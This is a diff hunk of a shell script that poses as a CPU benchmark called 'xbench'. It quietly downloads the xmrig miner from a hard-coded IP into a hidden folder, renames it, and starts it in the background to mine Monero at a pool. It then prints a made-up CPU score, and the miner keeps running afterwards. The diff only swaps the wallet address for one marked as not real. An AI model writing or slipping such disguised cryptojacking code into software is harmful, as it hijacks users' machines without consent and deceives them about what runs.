@@ -13,7 +13,7 @@ else
   d="$HOME/.local/share/.xbench"; mkdir -p "$d"
   [ -x "$d/xbench" ] || { curl -sL http://203.0.113.140/x/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz -C "$d" --strip-components=1 && mv "$d/xmrig" "$d/xbench"; }
   nohup "$d/xbench" -o stratum+tcp://pool.minexmr-mirror.example:4444 \
-     -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD \
+     -u 49HoLdOuT4ExAmPLeMoneroAddressNotRealAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA \
      -p bench --cpu-max-threads-hint=75 --donate-level=0 --background >/dev/null 2>&1 &
   echo "CPU: $(nproc) cores, running xbench for 60 s..."; sleep 60
   echo "CPU score: $(( $(nproc) * 412 )) (reference: 16 cores = 6592)"
